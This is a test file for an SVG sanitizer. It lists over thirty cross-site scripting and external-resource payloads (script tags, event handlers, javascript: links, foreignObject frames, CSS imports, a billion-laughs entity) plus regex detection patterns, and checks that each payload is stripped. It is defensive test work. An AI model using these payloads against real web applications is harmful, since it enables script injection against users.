import { describe, expect, it } from 'vitest';
import { SvgError, sanitizeSvg } from '../../../../server/modules/hara-figures/sanitizeSvg.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inner: string, attributes = '') =>
  `<?xml version="1.0"?><svg ${NS} width="10" height="10" ${attributes}><rect width="4" height="4"/>${inner}</svg>`;

/** What must be in no drawing that is kept. */
const FORBIDDEN = [
  /<[a-z:]*script/i,
  /<[a-z:]*foreignobject/i,
  /<[a-z:]*(animate|set|iframe|object|embed|audio|video|link|meta|body|handler|listener|a)[\s/>]/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /evil\.example/i,
  /<!DOCTYPE|<!ENTITY|<\?xml-stylesheet/i,
  /@import|@font-face|expression\(/i,
  /data:(text|application|image\/svg)/i,
];

const PAYLOADS: [string, string][] = [
  ['a script', svg('<script>alert(1)</script>')],
  ['a script by reference', svg('<script xlink:href="https://evil.example/x.js"/>')],
  ['a script in CDATA', svg('<script><![CDATA[alert(1)]]></script>')],
  ['a prefixed script', svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')],
  ['an XHTML script', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')],
  ['onload', svg('', 'onload="alert(1)"')],
  ['a handler on a shape', svg('<circle r="1" onclick="alert(1)" onmouseover="alert(2)"/>')],
  ['a focus handler', svg('<g tabindex="1" onfocusin="alert(1)"/>')],
  ['a link with script', svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['a link with a hidden scheme', svg('<a href="java&#10;script:alert(1)"><text>x</text></a>')],
  [
    'a foreign object',
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
  ],
  [
    'a frame',
    svg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
    ),
  ],
  ['an external image', svg('<image href="https://evil.example/x.png" width="1" height="1"/>')],
  ['an external image, old style', svg('<image xlink:href="//evil.example/x.png" width="1" height="1"/>')],
  ['an SVG in an image', svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>')],
  ['an external use', svg('<use href="https://evil.example/x.svg#a"/>')],
  ['a data use', svg('<use href="data:image/svg+xml,%3Csvg id=\'x\'/%3E#x"/>')],
  ['a style that imports', svg('<style>@import url(https://evil.example/x.css);</style>')],
  ['a style that loads', svg('<style>rect{fill:url(https://evil.example/x.svg#a)}</style>')],
  ['an escaped style', svg('<style>rect{fill:u\\72l(https://evil.example/x)}</style>')],
  ['a style attribute that loads', svg('<rect style="background:url(\'https://evil.example/x\')"/>')],
  ['a fill that loads', svg('<rect fill="url(https://evil.example/x.svg#a)"/>')],
  ['a filter that loads', svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>')],
  ['a font that loads', svg('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>')],
  [
    'an animated link',
    svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
  ],
  ['a set handler', svg('<set attributeName="onmouseover" to="alert(1)"/>')],
  [
    'a style sheet instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${svg('').slice(21)}`,
  ],
  ['a document type', `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('').slice(21)}`],
  [
    'an event handler element',
    svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  ],
  [
    'a title that breaks out',
    svg('<title><![CDATA[</title><script>alert(1)</script>]]></title>').replace('<script>', ''),
  ],
  ['a mask that loads', svg('<mask id="m"/><rect mask="url( https://evil.example/x#m )"/>')],
  ['an object', svg('<object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example"/>')],
  ['a base', svg('<rect xml:base="https://evil.example/"/>')],
];

describe('an SVG', () => {
  it('is tried with thirty payloads at least', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(30));
  it.each(PAYLOADS)('with %s loses it and keeps its drawing', (_, payload) => {
    const kept = sanitizeSvg(payload);
    for (const forbidden of FORBIDDEN) expect(kept).not.toMatch(forbidden);
    expect(kept).toMatch(/<rect[^>]*width="4"/);
    // Once is enough: what is clean stays as it is.
    expect(sanitizeSvg(kept)).toBe(kept);
  });
  it('keeps gradients, own references, text, styles and carried images', () => {
    const kept = sanitizeSvg(
      svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#123456"/></linearGradient><g id="part"><path d="M0 0L1 1"/></g></defs>' +
          '<style>.a{fill:url(#g);stroke:red}</style><use xlink:href="#part"/><rect class="a" style="fill:url(\'#g\')"/>' +
          '<text x="1" y="2">Zone &lt; 2 m</text><image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>' +
          '<g transform="translate(1 2)" filter="url(#f)"><circle r="1"/></g>',
        'viewBox="0 0 10 10"',
      ),
    );
    for (const part of [
      'linearGradient',
      'stop-color="#123456"',
      '#part',
      '.a{fill:url(#g);stroke:red}',
      'style="fill:url(\'#g\')"',
      'Zone &lt; 2 m',
      'data:image/png;base64,iVBORw0KGgo=',
      'translate(1 2)',
      'viewBox="0 0 10 10"',
      'filter="url(#f)"',
    ])
      expect(kept).toContain(part);
  });
  it('with entities, of another kind or broken is refused', () => {
    const laughs = `<!DOCTYPE svg [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;&a;">'}]>${svg('&b;').slice(21)}`;
    expect(() => sanitizeSvg(laughs)).toThrow(SvgError);
    expect(() => sanitizeSvg('<html xmlns="http://www.w3.org/1999/xhtml"/>')).toThrow(SvgError);
    expect(() => sanitizeSvg('<svg><rect/></svg>')).toThrow(SvgError);
    expect(() => sanitizeSvg('<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>')).toThrow();
    expect(() => sanitizeSvg('')).toThrow();
  });
});
